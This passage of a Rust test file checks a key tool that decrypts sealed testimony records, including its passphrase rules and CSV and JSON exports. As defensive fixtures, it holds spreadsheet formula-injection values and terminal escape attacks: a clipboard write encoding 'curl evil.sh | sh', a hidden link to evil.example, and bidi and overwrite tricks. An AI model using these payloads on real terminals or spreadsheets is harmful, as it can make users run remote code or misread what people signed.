//! Golden tests of the built binary: exact standard output, standard error and exit codes.

mod common;

use std::fs;
use std::path::Path;
use std::str::FromStr;

use common::*;
use seal::FieldValue;

const KEYGEN_PLAIN_HINTS: &str = "wrote the identity to key.txt, without a passphrase
warning: anyone who copies key.txt can read every testimony sealed to this key: keep it on an encrypted disk, or make a protected identity without --no-passphrase
the line above is its public key: give it to the server's operator (it is not secret)
";

const KEYGEN_PROTECTED_HINTS: &str = "wrote the identity to key.age, protected by your passphrase
the line above is its public key: give it to the server's operator (it is not secret)
keep a backup of key.age and remember the passphrase: without both, testimony sealed to this key cannot be read
";

const BOM: &str = "\u{feff}";

fn tmp() -> tempfile::TempDir {
    tempfile::tempdir().unwrap()
}

/// A plain identity file for KEY_1 as `key1.txt` in `dir`.
fn with_key_1(dir: &Path) {
    write(&dir.join("key1.txt"), identity_file(KEY_1, PUBLIC_1));
}

/// Records A and B, sealed to KEY_1, as `<id>.age` in `dir`.
fn with_records_a_b(dir: &Path) {
    write(
        &dir.join(format!("{ID_A}.age")),
        seal_to(&record_a(), PUBLIC_1),
    );
    write(
        &dir.join(format!("{ID_B}.age")),
        seal_to(&record_b(), PUBLIC_1),
    );
}

fn assert_public_key_line(stdout: &str) -> String {
    let key = stdout.strip_suffix('\n').expect("one line");
    assert!(!key.contains('\n'), "only the key on stdout: {stdout:?}");
    age::x25519::Recipient::from_str(key).expect("an age1… public key");
    key.to_owned()
}

#[test]
fn fixed_test_keys_are_consistent() {
    for (secret, public, fingerprint) in [(KEY_1, PUBLIC_1, SET_1), (KEY_2, PUBLIC_2, SET_2)] {
        let identity = age::x25519::Identity::from_str(secret).unwrap();
        assert_eq!(identity.to_public().to_string(), public);
        assert_eq!(set(public).fingerprint().to_string(), fingerprint);
    }
}

#[test]
fn keygen_without_passphrase_writes_a_private_age_keygen_file() {
    let dir = tmp();
    let out = run(
        dir.path(),
        &mut keytool(
            dir.path(),
            &["keygen", "--out", "key.txt", "--no-passphrase"],
        ),
    );
    assert_eq!((out.code, out.stderr.as_str()), (0, KEYGEN_PLAIN_HINTS));
    let public = assert_public_key_line(&out.stdout);

    let path = dir.path().join("key.txt");
    #[cfg(unix)]
    assert_eq!(mode(&path), 0o600);
    let text = fs::read_to_string(&path).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 3, "{text}");
    assert!(lines[0].starts_with("# created: 20") && lines[0].ends_with('Z'));
    assert_eq!(lines[1], format!("# public key: {public}"));
    let identity = age::x25519::Identity::from_str(lines[2]).unwrap();
    assert_eq!(identity.to_public().to_string(), public);

    // `recipient` reads it back.
    let again = run(
        dir.path(),
        &mut keytool(dir.path(), &["recipient", "-i", "key.txt"]),
    );
    assert_eq!(again, ok(&format!("{public}\n")));
}

#[test]
fn keygen_refuses_to_overwrite() {
    let dir = tmp();
    write(&dir.path().join("key.txt"), "precious");
    for extra in [&["--no-passphrase"][..], &[]] {
        let mut args = vec!["keygen", "--out", "key.txt"];
        args.extend_from_slice(extra);
        let out = run(dir.path(), &mut keytool(dir.path(), &args));
        assert_eq!(
            out,
            Run {
                code: 1,
                stdout: String::new(),
                stderr: "error: key.txt already exists\nthe key tool never overwrites a file: choose another --out path, or move the old file away first\n".into(),
            }
        );
    }
    assert_eq!(
        fs::read_to_string(dir.path().join("key.txt")).unwrap(),
        "precious"
    );
}

#[test]
fn keygen_needs_a_passphrase_source_without_a_terminal() {
    let dir = tmp();
    let out = run(
        dir.path(),
        &mut keytool(dir.path(), &["keygen", "--out", "key.age"]),
    );
    assert_eq!(
        out,
        Run {
            code: 1,
            stdout: String::new(),
            stderr: "error: standard input is not a terminal to ask for the new identity's passphrase\npass it with --passphrase-fd N or --passphrase-env VAR, or use --no-passphrase for an unprotected identity (risky: see --help)\n".into(),
        }
    );
    assert!(!dir.path().join("key.age").exists());

    let empty = keygen_protected(dir.path(), "");
    assert_eq!(
        empty.stderr,
        "error: the passphrase is empty\nan identity file protects every testimony: choose a long passphrase\n"
    );
    assert_eq!(empty.code, 1);
    assert!(!dir.path().join("key.age").exists());
}

/// A passphrase that is easy to guess is refused, whichever way it comes, with the reason and
/// what to do; nothing is written.
#[test]
fn keygen_refuses_weak_passphrases() {
    let dir = tmp();
    let weak = keygen_protected(dir.path(), "letmein2026");
    assert_eq!(
        weak,
        Run {
            code: 1,
            stdout: String::new(),
            stderr: "error: the passphrase is too easy to guess (strength 1 of 4, at least 3 needed): this is similar to a commonly used password; add another word or two, uncommon words are better\nanyone who copies the identity file can try passphrases on it offline, without limit: run keygen again with --generate-passphrase for six random words to write down, or choose a longer passphrase of several unrelated words\n".into(),
        }
    );
    assert!(!dir.path().join("key.age").exists());
    for weak in ["password", "sealform2026", "Summer2026!", "qwertyuiop"] {
        let out = run_with_stdin(
            dir.path(),
            &mut keytool(
                dir.path(),
                &["keygen", "--out", "key.age", "--passphrase-fd", "0"],
            ),
            format!("{weak}\n").as_bytes(),
        );
        assert_eq!(out.code, 1, "{weak}: {out:?}");
        assert!(
            out.stderr
                .starts_with("error: the passphrase is too easy to guess (strength "),
            "{weak}: {}",
            out.stderr
        );
        assert!(!dir.path().join("key.age").exists());
    }
}

/// `--generate-passphrase` protects the identity with six words from the EFF's list, shown
/// once on standard error; standard output still carries only the public key, and the words
/// open the file.
#[test]
fn keygen_generates_a_passphrase_of_six_words_that_opens_the_identity() {
    let dir = tmp();
    let out = run(
        dir.path(),
        &mut keytool(
            dir.path(),
            &["keygen", "--out", "key.age", "--generate-passphrase"],
        ),
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    let public = assert_public_key_line(&out.stdout);
    let lines: Vec<&str> = out.stderr.lines().collect();
    assert_eq!(
        lines[..3],
        [
            "wrote the identity to key.age, protected by the passphrase below",
            "the line above is its public key: give it to the server's operator (it is not secret)",
            "the passphrase, shown only this once: write it down now, and keep it apart from key.age",
        ]
    );
    assert_eq!((lines[3], lines[5]), ("", ""));
    let passphrase = lines[4].strip_prefix("    ").expect("indented");
    let words: Vec<&str> = passphrase.split(' ').collect();
    assert_eq!(words.len(), 6, "{passphrase:?}");
    assert!(
        words
            .iter()
            .all(|w| !w.is_empty() && w.chars().all(|c| c.is_ascii_lowercase() || c == '-')),
        "{passphrase:?}"
    );
    assert_eq!(
        lines[6..],
        [
            "keep a backup of key.age and the written passphrase: without both, testimony sealed to this key cannot be read"
        ]
    );
    #[cfg(unix)]
    assert_eq!(mode(&dir.path().join("key.age")), 0o600);

    let opened = run_with_stdin(
        dir.path(),
        &mut keytool(
            dir.path(),
            &["recipient", "-i", "key.age", "--passphrase-fd", "0"],
        ),
        format!("{passphrase}\n").as_bytes(),
    );
    assert_eq!(opened, ok(&format!("{public}\n")));

    // Another run, other words.
    let again = run(
        dir.path(),
        &mut keytool(
            dir.path(),
            &["keygen", "--out", "other.age", "--generate-passphrase"],
        ),
    );
    assert_eq!(again.code, 0);
    assert_ne!(again.stderr.lines().nth(4), Some(lines[4]));

    // It chooses the passphrase: no other source, and not with --no-passphrase.
    for other in [&["--no-passphrase"][..], &["--passphrase-fd", "0"]] {
        let mut args = vec!["keygen", "--out", "third.age", "--generate-passphrase"];
        args.extend_from_slice(other);
        let out = run(dir.path(), &mut keytool(dir.path(), &args));
        assert_eq!(out.code, 2, "{}", out.stderr);
        assert!(
            out.stderr
                .starts_with("error: the argument '--generate-passphrase' cannot be used with"),
            "{}",
            out.stderr
        );
    }
    assert!(!dir.path().join("third.age").exists());
}

#[test]
fn keygen_flags_that_contradict_are_usage_errors() {
    let dir = tmp();
    let out = run(
        dir.path(),
        &mut keytool(
            dir.path(),
            &[
                "keygen",
                "--out",
                "k",
                "--no-passphrase",
                "--passphrase-env",
                "X",
            ],
        ),
    );
    assert_eq!(out.code, 2);
    assert!(
        out.stderr.starts_with(
            "error: the argument '--no-passphrase' cannot be used with '--passphrase-env <VAR>'"
        ),
        "{}",
        out.stderr
    );
    let missing = run(dir.path(), &mut keytool(dir.path(), &["decrypt", "x.age"]));
    assert_eq!(missing.code, 2);
    assert!(!dir.path().join("k").exists());
}

#[test]
fn keygen_with_a_passphrase_writes_an_armored_scrypt_file_that_recipient_opens() {
    let dir = tmp();
    let out = keygen_protected(dir.path(), "correct horse battery staple");
    assert_eq!((out.code, out.stderr.as_str()), (0, KEYGEN_PROTECTED_HINTS));
    let public = assert_public_key_line(&out.stdout);

    let path = dir.path().join("key.age");
    #[cfg(unix)]
    assert_eq!(mode(&path), 0o600);
    let file = fs::read_to_string(&path).unwrap();
    assert!(
        file.starts_with("-----BEGIN AGE ENCRYPTED FILE-----\n"),
        "{file}"
    );
    assert!(
        file.ends_with("-----END AGE ENCRYPTED FILE-----\n"),
        "{file}"
    );
    assert!(!file.contains("AGE-SECRET-KEY"));

    // Through a file descriptor (here standard input, descriptor 0), with a CRLF line end.
    let opened = run_with_stdin(
        dir.path(),
        &mut keytool(
            dir.path(),
            &["recipient", "-i", "key.age", "--passphrase-fd", "0"],
        ),
        b"correct horse battery staple\r\nanything after the first line is ignored\n",
    );
    assert_eq!(opened, ok(&format!("{public}\n")));

    let wrong = run(
        dir.path(),
        keytool(
            dir.path(),
            &[
                "recipient",
                "-i",
                "key.age",
                "--passphrase-env",
                "SEALFORM_PASSPHRASE",
            ],
        )
        .env("SEALFORM_PASSPHRASE", "Correct horse battery staple"),
    );
    assert_eq!(
        wrong,
        Run {
            code: 1,
            stdout: String::new(),
            stderr: "error: the passphrase does not open key.age\ncheck the passphrase (and the keyboard layout) and try again\n".into(),
        }
    );

    // No source and no terminal: says how to pass one, before any scrypt work.
    let none = run(
        dir.path(),
        &mut keytool(dir.path(), &["recipient", "-i", "key.age"]),
    );
    assert_eq!(
        none,
        Run {
            code: 1,
            stdout: String::new(),
            stderr: "error: key.age is protected by a passphrase, and standard input is not a terminal to ask for it\npass it with --passphrase-fd N (a file descriptor to read it from) or --passphrase-env VAR (the name of an environment variable holding it)\n".into(),
        }
    );
}

#[test]
fn recipient_explains_files_that_are_not_identities() {
    let dir = tmp();
    write(&dir.path().join("public.txt"), format!("{PUBLIC_1}\n"));
    write(
        &dir.path().join("notes.txt"),
        "# my keys\nthe secret is in the drawer\n",
    );
    let cases = [
        (
            "missing.txt",
            "error: could not read missing.txt: it does not exist\n",
        ),
        (
            "public.txt",
            "error: public.txt holds a public key (age1…), not an identity\npass the identity file with the AGE-SECRET-KEY-1… line; the public key is what the server seals to\n",
        ),
        (
            "notes.txt",
            "error: notes.txt is not an age identity file: contains non-identity data on line 2\nan identity file holds AGE-SECRET-KEY-1… lines, as written by `sealform-keytool keygen` or age-keygen\n",
        ),
    ];
    for (file, stderr) in cases {
        let out = run(
            dir.path(),
            &mut keytool(dir.path(), &["recipient", "-i", file]),
        );
        assert_eq!(
            (out.code, out.stdout.as_str(), out.stderr.as_str()),
            (1, "", stderr)
        );
    }
}

const CSV_A_B: &str = "\u{feff}record,campaign,language,received,sign_as,name,actions,consent_public,testimony\r\n\
3f9c1a2b0000000000000000000000aa,open-letter,en,2026-11-28,individual,Mai,a; b,yes,\r\n\
7d02e4f1000000000000000000000bbb,open-letter,th,2026-11-29,,\"นวด, \"\"สปา\"\"\",,no,\"line one\nline two\"\r\n";

const JSON_A: &str = r#"{"record":"3f9c1a2b0000000000000000000000aa","campaign":"open-letter","campaign_version":"0000000000000000000000000000000000000000000000000000000000000000","language":"en","received":"2026-11-28","fields":{"sign_as":"individual","name":"Mai","actions":["a","b"],"consent_public":true}}"#;
const JSON_B: &str = r#"{"record":"7d02e4f1000000000000000000000bbb","campaign":"open-letter","campaign_version":"0000000000000000000000000000000000000000000000000000000000000000","language":"th","received":"2026-11-29","fields":{"name":"นวด, \"สปา\"","sign_as":"","testimony":"line one\nline two","consent_public":false}}"#;

#[test]
fn decrypt_exports_csv_json_and_jsonl() {
    let dir = tmp();
    with_key_1(dir.path());
    with_records_a_b(dir.path());
    let files = [format!("{ID_A}.age"), format!("{ID_B}.age")];
    let decrypt = |format: Option<&str>| {
        let mut args = vec!["decrypt", "-i", "key1.txt"];
        if let Some(format) = format {
            args.extend(["--format", format]);
        }
        args.extend(files.iter().map(String::as_str));
        run(dir.path(), &mut keytool(dir.path(), &args))
    };

    assert_eq!(decrypt(None), ok(CSV_A_B));
    assert_eq!(decrypt(Some("csv")), ok(CSV_A_B));
    assert_eq!(
        decrypt(Some("json")),
        ok(&format!("[\n  {JSON_A},\n  {JSON_B}\n]\n"))
    );
    assert_eq!(decrypt(Some("jsonl")), ok(&format!("{JSON_A}\n{JSON_B}\n")));

    // The JSON is what it claims to be.
    let parsed: serde_json::Value = serde_json::from_str(&decrypt(Some("json")).stdout).unwrap();
    assert_eq!(parsed[1]["fields"]["testimony"], "line one\nline two");
    assert_eq!(parsed[0]["fields"]["actions"][1], "b");
}

#[test]
fn decrypt_of_a_folder_reports_a_record_for_another_key_and_exports_the_rest() {
    let dir = tmp();
    with_key_1(dir.path());
    let export = dir.path().join("export");
    fs::create_dir(&export).unwrap();
    with_records_a_b(&export);
    let stranger = submission(
        "open-letter",
        "en",
        "2026-11-30",
        vec![("name", text("Kim"))],
    );
    write(
        &export.join(format!("{ID_C}.age")),
        seal_to(&stranger, PUBLIC_2),
    );
    write(
        &export.join("index.tsv"),
        format!("{ID_A}\t{SET_1}\n{ID_B}\t{SET_1}\n{ID_C}\t{SET_2}\n"),
    );
    write(&export.join("README.txt"), "not a record");

    let out = run(
        dir.path(),
        &mut keytool(dir.path(), &["decrypt", "-i", "key1.txt", "export"]),
    );
    assert_eq!(
        out,
        Run {
            code: 1,
            stdout: CSV_A_B.into(),
            stderr: format!(
                "error: no identity could open record c0ffee00 (export/{ID_C}.age): it was sealed to recipient set {SET_2}; try the identity for that set\n\
                 error: exported 2 of 3 records; see the error above\n\
                 the identities given with -i make recipient set {SET_1}; a record sealed to another set needs an identity of that set\n"
            ),
        }
    );

    // With both identities, everything opens; the header grows by the stranger's fields only.
    write(&dir.path().join("key2.txt"), identity_file(KEY_2, PUBLIC_2));
    let both = run(
        dir.path(),
        &mut keytool(
            dir.path(),
            &[
                "decrypt", "-i", "key1.txt", "-i", "key2.txt", "--format", "jsonl", "export",
            ],
        ),
    );
    assert_eq!(both.code, 0, "{}", both.stderr);
    assert_eq!(both.stdout.lines().count(), 3);
    assert!(
        both.stdout
            .lines()
            .nth(2)
            .unwrap()
            .contains(r#""fields":{"name":"Kim"}"#)
    );
}

#[test]
fn decrypt_reports_damaged_and_missing_records_without_an_index() {
    let dir = tmp();
    with_key_1(dir.path());
    let mut record = seal_to(&record_a(), PUBLIC_1);
    record.truncate(record.len() - 1);
    write(&dir.path().join(format!("{ID_A}.age")), &record);
    write(
        &dir.path().join("letter.age"),
        seal_to(&record_b(), PUBLIC_2),
    );
    fs::create_dir(dir.path().join("empty")).unwrap();

    let out = run(
        dir.path(),
        &mut keytool(
            dir.path(),
            &[
                "decrypt",
                "-i",
                "key1.txt",
                "--format",
                "jsonl",
                &format!("{ID_A}.age"),
                "letter.age",
                "gone.age",
                "empty",
            ],
        ),
    );
    assert_eq!(
        out,
        Run {
            code: 1,
            stdout: String::new(),
            stderr: format!(
                "error: could not read gone.age: it does not exist\n\
                 error: empty holds no record (*.age file)\ncheck the folder the server's export was saved to\n\
                 error: could not open record 3f9c1a2b ({ID_A}.age): the age file is damaged: a payload chunk failed authentication\n\
                 error: no identity could open letter.age: it was sealed to other keys; try -i with another identity\n\
                 error: exported 0 of 2 records; see the 4 errors above\n\
                 the identities given with -i make recipient set {SET_1}; a record sealed to another set needs an identity of that set\n"
            ),
        }
    );
}

#[test]
fn csv_guards_formulas_and_keeps_multiline_and_unicode_values() {
    let dir = tmp();
    with_key_1(dir.path());
    let values = [
        ("equals", "=HYPERLINK(\"http://x\",\"y\")"),
        ("plus", "+49 30 1234"),
        ("minus", "-5"),
        ("at", "@SUM(A1:A9)"),
        ("tab", "\tx"),
        ("cr", "\rx"),
        ("space", " =1+2"),
        ("full_width", "\u{ff1d}1+2"),
        ("pipe", "|cmd"),
        ("line_break", "\n@SUM(A1:A9)"),
        ("inner", "a = b - c"),
        ("multiline", "first line\nsecond, \"quoted\"\r\nthird"),
        ("unicode", "مرحبا 👩🏽‍⚕️ e\u{301} 按摩"),
    ];
    let record = submission(
        "-campaign",
        "ar",
        "2026-11-28",
        values
            .iter()
            .map(|(name, value)| (*name, text(value)))
            .collect(),
    );
    write(
        &dir.path().join(format!("{ID_A}.age")),
        seal_to(&record, PUBLIC_1),
    );

    let out = run(
        dir.path(),
        &mut keytool(
            dir.path(),
            &["decrypt", "-i", "key1.txt", &format!("{ID_A}.age")],
        ),
    );
    let expected = format!(
        "{BOM}record,campaign,language,received,equals,plus,minus,at,tab,cr,space,full_width,pipe,line_break,inner,multiline,unicode\r\n\
         {ID_A},'-campaign,ar,2026-11-28,\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\",'+49 30 1234,'-5,'@SUM(A1:A9),'\tx,\"'\rx\",' =1+2,'\u{ff1d}1+2,'|cmd,\"'\n@SUM(A1:A9)\",a = b - c,\"first line\nsecond, \"\"quoted\"\"\r\nthird\",مرحبا 👩🏽‍⚕️ e\u{301} 按摩\r\n"
    );
    assert_eq!(out, ok(&expected));

    // A CSV reader gets the values back, each formula behind its `'`.
    let mut reader = csv::Reader::from_reader(out.stdout.as_bytes());
    let headers = reader.headers().unwrap().clone();
    assert_eq!(
        &headers[0], "record",
        "the BOM is not part of the first name"
    );
    let row = reader.records().next().unwrap().unwrap();
    for (index, (name, value)) in values.iter().enumerate() {
        let cell = &row[index + 4];
        assert_eq!(&headers[index + 4], *name);
        let guarded = [
            "equals",
            "plus",
            "minus",
            "at",
            "tab",
            "cr",
            "space",
            "full_width",
            "pipe",
            "line_break",
        ]
        .contains(name);
        assert_eq!(
            cell,
            if guarded {
                format!("'{value}")
            } else {
                value.to_string()
            }
        );
    }
}

/// More rows than wait in memory: they wait, sealed, in a temporary file that no name reaches
/// (none is left in the folder), and come out as an export made at once would: in order, every
/// row with a cell for the column a record in the middle brought. A folder that cannot hold that
/// file is named, with what to do. Written to a file instead, the rows before that record went
/// straight out and are written again under the longer header: the file holds exactly what
/// standard output got.
#[test]
fn a_large_csv_export_waits_for_its_header_sealed_and_names_a_folder_that_cannot_hold_it() {
    const LATE_IN_THE_MIDDLE: usize = 350;
    let dir = tmp();
    with_key_1(dir.path());
    let export = dir.path().join("export");
    fs::create_dir(&export).unwrap();
    // Quotes, commas and both kinds of line break, inside quoted cells.
    let testimony = "They came at night — ночью, 夜里, \"again\".\n…and again,\r\n".repeat(120);
    let count = 700;
    for n in 0..count {
        let mut fields = vec![
            ("name", text(&format!("Signer {n}"))),
            ("testimony", text(&testimony)),
        ];
        if n == LATE_IN_THE_MIDDLE || n + 1 == count {
            fields.push(("late", text("only two records have this")));
        }
        let record = submission("open-letter", "en", "2026-11-28", fields);
        write(
            &export.join(format!("{n:032x}.age")),
            seal_to(&record, PUBLIC_1),
        );
    }
    let spool = dir.path().join("spool");
    fs::create_dir(&spool).unwrap();

    let out = run(
        dir.path(),
        keytool(dir.path(), &["decrypt", "-i", "key1.txt", "export"]).env("TMPDIR", &spool),
    );
    assert_eq!((out.code, out.stderr.as_str()), (0, ""));
    assert!(out.stdout.len() > 5 * 1024 * 1024, "past the memory limit");
    let body = out.stdout.strip_prefix(BOM).unwrap();
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    assert_eq!(
        reader.headers().unwrap(),
        vec![
            "record",
            "campaign",
            "language",
            "received",
            "name",
            "testimony",
            "late"
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), count);
    for (n, row) in rows.iter().enumerate() {
        assert_eq!(row.len(), 7, "row {n}");
        assert_eq!(&row[0], format!("{n:032x}"));
        assert_eq!(&row[4], format!("Signer {n}"));
        assert_eq!(&row[5], testimony);
        let late = if n == LATE_IN_THE_MIDDLE || n + 1 == count {
            "only two records have this"
        } else {
            ""
        };
        assert_eq!(&row[6], late, "row {n}");
    }
    assert_eq!(
        fs::read_dir(&spool).unwrap().count(),
        0,
        "nothing left behind"
    );

    fs::create_dir(dir.path().join("out")).unwrap();
    let to_file = run(
        dir.path(),
        &mut keytool(
            dir.path(),
            &[
                "decrypt",
                "-i",
                "key1.txt",
                "--out",
                "out/letter.csv",
                "export",
            ],
        ),
    );
    assert_eq!((to_file.code, to_file.stderr.as_str()), (0, ""));
    assert!(
        fs::read(dir.path().join("out/letter.csv")).unwrap() == out.stdout.as_bytes(),
        "the file holds what standard output got"
    );
    assert_eq!(
        fs::read_dir(dir.path().join("out")).unwrap().count(),
        1,
        "only the export is left beside it"
    );

    let missing = run(
        dir.path(),
        keytool(dir.path(), &["decrypt", "-i", "key1.txt", "export"])
            .env("TMPDIR", dir.path().join("missing")),
    );
    assert_eq!(missing.code, 1);
    assert_eq!(
        missing.stderr,
        "error: could not keep the records read so far in a temporary file in <tmp>/missing: it does not exist\n\
         they wait there, sealed, until every record is read: make room there, or write to a folder with room (--out; for standard output, set TMPDIR)\n"
    );

    // The waiting rows are written on a thread of their own; its failure ends the run all the
    // same, named, with nothing left behind.
    let full = run(
        dir.path(),
        keytool(dir.path(), &["decrypt", "-i", "key1.txt", "export"])
            .env("TMPDIR", &spool)
            .stdout(fs::File::create("/dev/full").unwrap()),
    );
    assert_eq!(
        (full.code, full.stderr.as_str()),
        (
            1,
            "error: could not write to standard output: no space left on device (os error 28)\n"
        )
    );
    assert_eq!(fs::read_dir(&spool).unwrap().count(), 0);
}

#[test]
fn decrypt_out_writes_a_private_file_and_refuses_to_overwrite() {
    let dir = tmp();
    with_key_1(dir.path());
    with_records_a_b(dir.path());
    let record_a = format!("{ID_A}.age");
    let record_b = format!("{ID_B}.age");
    let args = [
        "decrypt",
        "-i",
        "key1.txt",
        "--out",
        "letter.csv",
        &record_a,
        &record_b,
    ];

    assert_eq!(run(dir.path(), &mut keytool(dir.path(), &args)), ok(""));
    let path = dir.path().join("letter.csv");
    assert_eq!(fs::read_to_string(&path).unwrap(), CSV_A_B);
    #[cfg(unix)]
    assert_eq!(mode(&path), 0o600);

    write(&path, "an older export");
    assert_eq!(
        run(dir.path(), &mut keytool(dir.path(), &args)),
        Run {
            code: 1,
            stdout: String::new(),
            stderr: "error: letter.csv already exists\nthe key tool never overwrites an export: choose another --out path, or delete the old export first\n".into(),
        }
    );
    assert_eq!(fs::read_to_string(&path).unwrap(), "an older export");
    let mut names: Vec<_> = fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            "3f9c1a2b0000000000000000000000aa.age",
            "7d02e4f1000000000000000000000bbb.age",
            "key1.txt",
            "letter.csv"
        ]
    );
}

#[test]
fn decrypt_with_protected_identities_reads_the_passphrase_once_from_a_descriptor() {
    let dir = tmp();
    let made = keygen_protected(dir.path(), "ปลอดภัย passphrase");
    assert_eq!(made.code, 0, "{}", made.stderr);
    let public = made.stdout.trim_end().to_owned();
    write(
        &dir.path().join(format!("{ID_A}.age")),
        seal_to(&record_a(), &public),
    );

    let out = run_with_stdin(
        dir.path(),
        &mut keytool(
            dir.path(),
            &[
                "decrypt",
                "-i",
                "key.age",
                // The descriptor is read once; its line serves every protected file.
                "-i",
                "key.age",
                "--passphrase-fd",
                "0",
                "--format",
                "jsonl",
                &format!("{ID_A}.age"),
            ],
        ),
        "ปลอดภัย passphrase\n".as_bytes(),
    );
    assert_eq!(out, ok(&format!("{JSON_A}\n")));
}

#[test]
fn every_subcommand_help_has_examples() {
    let dir = tmp();
    for subcommand in ["keygen", "recipient", "decrypt", "report"] {
        let out = run(
            dir.path(),
            &mut keytool(dir.path(), &[subcommand, "--help"]),
        );
        assert_eq!(out.code, 0);
        assert!(
            out.stdout.contains("\nExamples:\n"),
            "{subcommand}: {}",
            out.stdout
        );
        assert!(
            out.stdout
                .contains(&format!("sealform-keytool {subcommand} "))
        );
    }
}

/// The opening path the binary uses is the library's: a record opened through it has the same
/// fields as the one sealed.
#[test]
fn the_library_opening_path_opens_what_seal_sealed() {
    let keyring = sealform_keytool::Keyring::parse_identity_file(
        &identity_file(KEY_1, PUBLIC_1),
        Path::new("key1.txt"),
    )
    .unwrap();
    let opened = keyring
        .open_record(&seal_to(&record_b(), PUBLIC_1))
        .unwrap();
    assert_eq!(
        opened.expose_field("testimony"),
        Some(&text("line one\nline two"))
    );
    assert_eq!(
        opened.expose_field("consent_public"),
        Some(&FieldValue::Consent(false))
    );
}

/// On a terminal, keygen asks twice and refuses a mismatch, an empty passphrase or a weak one
/// (before asking again); recipient asks once.
#[test]
fn terminal_prompts_ask_twice_and_refuse_mismatches() {
    let dir = tmp();
    let on_terminal = |args: &[&str], typed: &str| run_on_terminal(dir.path(), args, typed);
    let Some((code, shown)) = on_terminal(
        &["keygen", "--out", "typo.key"],
        "lantern orbit velvet quarry\nlantern orbit velvet query\n",
    ) else {
        return;
    };
    assert_eq!(code, 1, "{shown}");
    assert!(
        shown.contains("passphrase for the new identity: "),
        "{shown}"
    );
    assert!(shown.contains("the same passphrase again: "), "{shown}");
    assert!(
        shown.contains("error: the two passphrases differ"),
        "{shown}"
    );
    assert!(!dir.path().join("typo.key").exists());

    let (code, shown) = on_terminal(&["keygen", "--out", "empty.key"], "\n").unwrap();
    assert_eq!(code, 1, "{shown}");
    assert!(shown.contains("error: the passphrase is empty"), "{shown}");
    assert!(!dir.path().join("empty.key").exists());

    let (code, shown) = on_terminal(&["keygen", "--out", "weak.key"], "password1\n").unwrap();
    assert_eq!(code, 1, "{shown}");
    assert!(
        shown.contains("error: the passphrase is too easy to guess"),
        "{shown}"
    );
    assert!(!shown.contains("the same passphrase again"), "{shown}");
    assert!(!dir.path().join("weak.key").exists());

    let (code, shown) = on_terminal(
        &["keygen", "--out", "key.age"],
        "typed twice\ntyped twice\n",
    )
    .unwrap();
    assert_eq!(code, 0, "{shown}");
    let key = fs::read_to_string(dir.path().join("key.age")).unwrap();
    assert!(key.starts_with("-----BEGIN AGE ENCRYPTED FILE-----"));

    let (code, shown) = on_terminal(&["recipient", "-i", "key.age"], "typed twice\n").unwrap();
    assert_eq!(code, 0, "{shown}");
    assert!(shown.contains("passphrase for key.age: "), "{shown}");
    let (code, shown) = on_terminal(&["recipient", "-i", "key.age"], "typed once\n").unwrap();
    assert_eq!(code, 1, "{shown}");
    assert!(
        shown.contains("error: the passphrase does not open key.age"),
        "{shown}"
    );
}

/// Answers that attack the terminal they are shown on, with how a CSV export and a JSON export
/// show them there: (field name, answer, in CSV, in JSON).
const TERMINAL_ATTACKS: [(&str, &str, &str, &str); 8] = [
    (
        "clipboard",
        "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
        "\\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u{7}",
        "\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007",
    ),
    (
        "link",
        "\x1b]8;;https://evil.example/\x1b\\read the letter\x1b]8;;\x1b\\",
        "\\u{1b}]8;;https://evil.example/\\u{1b}\\read the letter\\u{1b}]8;;\\u{1b}\\",
        "\\u001b]8;;https://evil.example/\\u001b\\\\read the letter\\u001b]8;;\\u001b\\\\",
    ),
    (
        "clear",
        "\x1b[2J\x1b[Hall clear",
        "\\u{1b}[2J\\u{1b}[Hall clear",
        "\\u001b[2J\\u001b[Hall clear",
    ),
    (
        "hidden",
        "I support\x1b[8m nothing\x1b[0m",
        "I support\\u{1b}[8m nothing\\u{1b}[0m",
        "I support\\u001b[8m nothing\\u001b[0m",
    ),
    (
        "overwrite",
        "I withdraw\rI sign    ",
        "I withdraw\\u{d}I sign    ",
        "I withdraw\\rI sign    ",
    ),
    (
        "c1",
        "\u{9b}2J\u{9d}0;title\u{9c}",
        "\\u{9b}2J\\u{9d}0;title\\u{9c}",
        "\\u009b2J\\u009d0;title\\u009c",
    ),
    (
        "bidi",
        "\u{202e}gnp.exe\u{202c} \u{2067}x\u{2069}",
        "\\u{202e}gnp.exe\\u{202c} \\u{2067}x\\u{2069}",
        "\\u202egnp.exe\\u202c \\u2067x\\u2069",
    ),
    ("bell\x07", "\x07\x07", "\\u{7}\\u{7}", "\\u0007\\u0007"),
];

/// A record whose every answer attacks the terminal, named `<ID_A>.age`, sealed to KEY_1.
fn with_terminal_attacks(dir: &Path) {
    let record = submission(
        "open-letter",
        "en",
        "2026-11-28",
        TERMINAL_ATTACKS
            .iter()
            .map(|(name, answer, _, _)| (*name, text(answer)))
            .collect(),
    );
    write(&dir.join(format!("{ID_A}.age")), seal_to(&record, PUBLIC_1));
}

/// What a terminal showed holds no character that it would act on instead of showing: no ESC,
/// BEL or other C0 control but the line ends, no C1 control, no bidirectional or invisible
/// character; and a carriage return only as part of a line end (the terminal turns each line
/// feed into CR LF).
fn assert_nothing_acts_on_the_terminal(shown: &str) {
    let mut lines = shown.to_owned();
    while lines.contains("\r\n") {
        lines = lines.replace("\r\n", "\n");
    }
    let acting: Vec<char> = lines
        .chars()
        .filter(|&c| c != '\n' && sealform_keytool::escape::is_unsafe(c))
        .collect();
    assert!(
        acting.is_empty(),
        "{acting:?} reached the terminal:\n{shown}"
    );
    assert!(
        !shown.contains('\u{fffd}'),
        "bytes that are not UTF-8: {shown}"
    );
}

/// The real binary on a real terminal (a pseudo-terminal made by util-linux `script`): answers
/// and file names that would take over the terminal are shown escaped, in every format.
#[test]
fn decrypt_on_a_terminal_shows_control_characters_escaped() {
    let dir = tmp();
    with_key_1(dir.path());
    let export = dir.path().join("export");
    fs::create_dir(&export).unwrap();
    with_terminal_attacks(&export);
    write(
        &export.join("\x1b]52;c;ZXZpbA==\x07\x1b[2J.age"),
        "not a record",
    );

